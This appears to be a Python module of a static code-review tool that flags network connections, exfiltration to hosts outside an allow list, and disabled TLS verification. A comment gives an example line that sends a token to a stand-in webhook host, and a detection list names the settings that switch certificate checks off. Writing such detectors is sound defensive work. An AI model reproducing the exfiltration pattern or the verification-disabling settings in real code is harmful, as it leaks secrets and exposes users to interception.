"""The network: HTTP requests (judged by the HTTP reviewer), connections through http.client,
smtplib and ftplib, and sockets, whose connections the findings weigh at the end."""

from __future__ import annotations

import ast
import json
from typing import TYPE_CHECKING, Any

from forethought.review import unverified as unverified_words
from forethought.review.http import READ_METHODS, request_predictions, split_url
from forethought.review.python import effects
from forethought.review.python.findings import harm
from forethought.review.python.syntax import argument, keyword
from forethought.review.python.tables import BODY_KEYWORDS, HTTP_CALLS, HTTP_VERBS, WEB
from forethought.review.python.values import UNKNOWN

if TYPE_CHECKING:
    from forethought.review.python.analysis import Analysis

_CONNECTIONS = {  # qualified name -> scheme
    "http.client.HTTPConnection": "http", "http.client.HTTPSConnection": "https",
    "smtplib.SMTP": "smtp", "smtplib.SMTP_SSL": "smtp", "ftplib.FTP": "ftp",
    "ftplib.FTP_TLS": "ftp",
}


def call(a: Analysis, node: ast.Call, name: str) -> None:
    """A call of a network library: requests.post, urllib.request.urlopen, smtplib.SMTP..."""
    evidence = a.evidence(node)
    if name in _CONNECTIONS:
        _connection(a, _CONNECTIONS[name], a.static(argument(node, 0, "host")), evidence)
        return
    request = _request_parts(a, node, name)
    if request is not None:
        _request(a, *request, evidence, keyword(node, "params"))
    if name in ("urllib.request.urlretrieve", "wget.download"):
        url = a.static(argument(node, 0, "url"))
        target = a.static(argument(node, 1, "filename", "out"))
        if isinstance(target, str):
            a.facts.downloaded[target] = url if isinstance(url, str) else "a URL chosen at run time"


def method_call(a: Analysis, node: ast.Call, attr: str, name: str | None) -> None:
    """A method of an untracked object: a socket's connect or listen, a session's get or post."""
    on_socket = a.uses_socket and (name is None or name.startswith("socket."))
    if on_socket and attr in ("connect", "connect_ex", "sendto"):
        address = argument(node, 1 if attr == "sendto" else 0, "address")
        if isinstance(address, (ast.Tuple, ast.Name, ast.Attribute)):
            _connects(a, node, a.static(address))
    elif on_socket and attr == "listen":
        a.facts.listens.append(a.evidence(node))
    elif on_socket and attr == "bind":
        address = a.static(argument(node, 0, "address"))
        if isinstance(address, list) and address and isinstance(address[0], str):
            effects.listen(a, address[0], a.evidence(node))
    elif attr in HTTP_VERBS or attr in ("request", "stream"):
        first = a.static(node.args[0]) if node.args else UNKNOWN
        body = keyword(node, *BODY_KEYWORDS)
        headers = keyword(node, "headers")
        if attr in HTTP_VERBS and isinstance(first, str) and first.startswith(WEB):
            _request(a, attr.upper(), node.args[0], body, headers, a.evidence(node),
                     keyword(node, "params"))
        elif attr in ("request", "stream") and len(node.args) >= 2:
            url = a.static(node.args[1])
            if isinstance(first, str) and isinstance(url, str) and url.startswith(WEB):
                _request(a, first, node.args[1], body, headers, a.evidence(node),
                         keyword(node, "params"))


def create_connection(a: Analysis, node: ast.Call, name: str) -> None:
    _connects(a, node, a.static(argument(node, 0, "address")))


def _connects(a: Analysis, node: ast.AST, address: Any) -> None:
    host = address[0] if isinstance(address, list) and address else None
    evidence = a.evidence(node)
    a.facts.connects.append((evidence, host if isinstance(host, str) else None))
    if isinstance(host, str):
        effects.connect(a, host, evidence)


def _connection(a: Analysis, scheme: str, host: Any, evidence: str) -> None:
    if not isinstance(host, str):
        a.facts.sends.append((evidence, "a host chosen at run time"))
        a.add([harm(f"opens a {scheme} connection to a host chosen at run time", 0.5,
                    "moderate", evidence, "exfiltration")])
        return
    effects.connect(a, host, evidence)
    if a.program.allows(host):
        return
    if scheme in ("http", "https"):
        # a connection that only GETs (downloads a dataset or a build) sends nothing
        method = "GET" if _only_reads(a) else "POST"
        if method == "POST":
            a.facts.sends.append((evidence, host))
        a.add(p for p in request_predictions(method, f"{scheme}://{host}/", {}, "",
                                             a.program.allowed_hosts, evidence)
              if p.valence == "harm")
        return
    a.facts.sends.append((evidence, host))
    a.add([harm(f"opens a {scheme} connection to {host}, outside the allow list, through "
                "which data can leave", 0.6, "moderate", evidence, "exfiltration")])


def _only_reads(a: Analysis) -> bool:
    """Whether every request the code makes on an http.client connection reads (GET without a
    body): downloading a file is not sending one."""
    for node in a.nodes:
        if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
            continue
        attr = node.func.attr
        if attr in ("send", "sendall") or (attr == "endheaders" and node.args):
            return False
        if attr in ("request", "putrequest"):
            method = a.static(node.args[0]) if node.args else UNKNOWN
            body = len(node.args) > 2 or keyword(node, "body") is not None
            if not isinstance(method, str) or method.upper() not in READ_METHODS or body:
                return False
    return True


def _request_parts(
    a: Analysis, node: ast.Call, name: str
) -> tuple[str, ast.expr | None, ast.expr | None, ast.expr | None] | None:
    """(method, url, body, headers) of a request call, or None if it is not one."""
    headers = keyword(node, "headers")
    body = keyword(node, *BODY_KEYWORDS)
    verb = HTTP_CALLS.get(name)
    if name == "urllib.request.urlopen":
        target = argument(node, 0, "url")
        if isinstance(target, ast.Call) and a.resolve(target.func) == "urllib.request.Request":
            return None  # reviewed at the Request(...) call
        body = argument(node, 1, "data")
        return ("POST" if body is not None else "GET"), target, body, None
    if name == "urllib.request.Request":
        body = argument(node, 1, "data")
        headers = argument(node, 2, "headers")
        method = a.static(keyword(node, "method"))
        default = "POST" if body is not None else "GET"
        return (method if isinstance(method, str) else default), argument(node, 0, "url"), (
            body), headers
    if verb == "*":
        method = a.static(argument(node, 0, "method"))
        return (method if isinstance(method, str) else "POST"), argument(node, 1, "url"), (
            body), headers
    if verb is not None:
        return verb, argument(node, 0, "url"), body, headers
    return None


def _request(
    a: Analysis,
    method: str,
    url_node: ast.expr | None,
    body_node: ast.expr | None,
    headers_node: ast.expr | None,
    evidence: str,
    params_node: ast.expr | None = None,
) -> None:
    method = method.upper()
    body = _text_of(a, body_node)
    headers = _headers(a, headers_node)
    # Query parameters computed at run time can carry data out as well as a body can: a
    # channel for secrets the code reads (a GET with a search term is not sending files).
    runtime_params = params_node is not None and a.static(params_node) is UNKNOWN
    sends = bool(body) or method not in READ_METHODS
    url = a.static(url_node)
    if isinstance(url, bytes):
        url = url.decode("utf-8", "replace")
    a.facts.requests.append((
        method,
        url if isinstance(url, str) else "",
        body,
        "\n".join(f"{k}: {v}" for k, v in headers.items()),
        evidence,
    ))
    if not sends:
        a.facts.fetched.append(url if isinstance(url, str) else "a URL chosen at run time")
    if not isinstance(url, str):
        prefix = _literal_prefix(a, url_node)
        parts = split_url(prefix) if prefix else None
        host = (parts.hostname or "") if parts and parts.hostname else ""
        if not sends and host and not a.program.allows(host):
            # (`urlopen("https://hooks.example.net/zt?token=" + tok)`: what the run puts in the
            # URL goes to that host, as a query built at run time does)
            a.facts.weak_sends.append((evidence, host))
        elif runtime_params and not sends:
            a.facts.weak_sends.append((evidence, "a URL chosen at run time"))
        if sends:
            a.facts.sends.append((evidence, "a URL chosen at run time"))
            a.add([harm("sends data to a URL chosen at run time", 0.5, "moderate", evidence,
                        "exfiltration")])
        else:
            a.add([harm("fetches a URL chosen at run time", 0.5, "low", evidence,
                        "exfiltration", reversible=True)])
        return
    parts = split_url(url)
    host = (parts.hostname or "") if parts else ""
    if not a.program.allows(host):
        if sends:
            a.facts.sends.append((evidence, host or url))
        elif runtime_params:
            a.facts.weak_sends.append((evidence, host or url))
    effects.connect(a, host, evidence)
    a.add(p for p in request_predictions(method, url, headers, body, a.program.allowed_hosts,
                                         evidence)
          if p.valence == "harm")


def _literal_prefix(a: Analysis, node: ast.expr | None) -> str:
    """The known start of a URL built at run time (``"https://h/x?t=" + tok``, an f-string),
    where it names a scheme and host; else ""."""
    while isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        node = node.left
    if isinstance(node, ast.JoinedStr) and node.values:
        node = node.values[0]
    value = a.static(node) if node is not None else UNKNOWN
    if isinstance(value, str) and "://" in value and "/" in value.split("://", 1)[1]:
        return value
    return ""


def _text_of(a: Analysis, node: ast.expr | None) -> str:
    """A request body: its value where known, else its source text (non-empty)."""
    if node is None:
        return ""
    value = a.static(node)
    if isinstance(value, bytes):
        return value.decode("utf-8", "replace")
    if isinstance(value, str):
        return value
    if isinstance(node, (ast.Dict, ast.List)):  # json={...}: the body is the value as JSON
        try:
            return json.dumps(_json_of(a, node))
        except (TypeError, ValueError, RecursionError):
            pass
    return a.source.segment(node) or "<data>"


def _json_of(a: Analysis, node: ast.expr, depth: int = 0) -> Any:
    """A literal dict or list as the JSON a request would send; values only the run knows are
    their source text."""
    if depth > 20:
        raise ValueError("nested too deeply")
    if isinstance(node, ast.Dict):
        out: dict[str, Any] = {}
        for key, value in zip(node.keys, node.values, strict=True):
            name = a.static(key) if key is not None else UNKNOWN
            out[name if isinstance(name, str) else "<key>"] = _json_of(a, value, depth + 1)
        return out
    if isinstance(node, (ast.List, ast.Tuple)):
        return [_json_of(a, e, depth + 1) for e in node.elts]
    value = a.static(node)
    if isinstance(value, (str, int, float, bool)) or value is None:
        return value
    return a.source.segment(node) or "<value>"


def _headers(a: Analysis, node: ast.expr | None) -> dict[str, str]:
    if not isinstance(node, ast.Dict):
        return {}
    out: dict[str, str] = {}
    for key, value in zip(node.keys, node.values, strict=True):
        name = a.static(key) if key is not None else UNKNOWN
        if isinstance(name, str):
            known = a.static(value)
            out[name] = known if isinstance(known, str) else (
                a.source.segment(value) or "<value>")
    return out


# Words one of which is in any code that switches a check of who answers off.
_UNVERIFIED_HINT = (
    "verify",
    "CERT_NONE",
    "_create_unverified_context",
    "check_hostname",
    "ssl=False",
    "HTTPSVERIFY",
    "REJECT_UNAUTHORIZED",
    "SSL_NO_VERIFY",
)
_UNVERIFIED_CALLS = frozenset({"ssl._create_unverified_context", "ssl._create_stdlib_context"})


def unverified(a: Analysis) -> None:
    """Checks of who answers switched off (review/unverified.py): `verify=False` on a request,
    aiohttp's `ssl=False`, an unverified SSL context, `ssl.CERT_NONE`, `check_hostname =
    False`, or the variables that do it for child processes. Not where every URL in the code is
    this machine."""
    if not any(word in a.code for word in _UNVERIFIED_HINT):
        return
    found: ast.AST | None = None
    for node in a.nodes:
        if isinstance(node, ast.Call):
            off = (
                any(
                    kw.arg in ("verify", "ssl", "verify_ssl")
                    and isinstance(kw.value, ast.Constant)
                    and kw.value.value is False
                    for kw in node.keywords
                )
                or a.resolve(node.func) in _UNVERIFIED_CALLS
            )
            if not off and _environ_set(a, node):
                off = True
        elif isinstance(node, ast.Attribute) and isinstance(node.ctx, ast.Load):
            off = a.resolve(node) == "ssl.CERT_NONE"
        elif isinstance(node, ast.Assign):
            off = (
                isinstance(node.value, ast.Constant)
                and node.value.value is False
                and any(
                    isinstance(t, ast.Attribute) and t.attr == "check_hostname"
                    for t in node.targets
                )
            ) or _environ_assigned(a, node)
        else:
            continue
        if off:
            found = node
            break
    if found is None:
        return
    urls = [
        n.value
        for n in a.nodes
        if isinstance(n, ast.Constant) and isinstance(n.value, str) and n.value.startswith(WEB)
    ]
    if urls and all(unverified_words.local_url(u) for u in urls):
        return
    evidence = a.evidence(found)
    a.add(
        [
            harm(
                unverified_words.OUTCOME.format(what=evidence),
                unverified_words.PROBABILITY,
                unverified_words.SEVERITY,
                evidence,
                "defence_evasion",
                reversible=unverified_words.REVERSIBLE,
            )
        ]
    )


def _environ_set(a: Analysis, node: ast.Call) -> bool:
    """``os.environ.setdefault/update`` or ``os.putenv`` of a variable that switches a check off."""
    name = a.resolve(node.func)
    if name in ("os.putenv", "os.environ.setdefault") and len(node.args) >= 2:
        key, value = a.static(node.args[0]), a.static(node.args[1])
        return (
            isinstance(key, str) and isinstance(value, str) and unverified_words.env_off(key, value)
        )
    return False


def _environ_assigned(a: Analysis, node: ast.Assign) -> bool:
    """``os.environ["NODE_TLS_REJECT_UNAUTHORIZED"] = "0"``."""
    value = a.static(node.value)
    if not isinstance(value, str):
        return False
    for target in node.targets:
        if (
            isinstance(target, ast.Subscript)
            and a.resolve(target.value) == "os.environ"
            and isinstance(key := a.static(target.slice), str)
            and unverified_words.env_off(key, value)
        ):
            return True
    return False
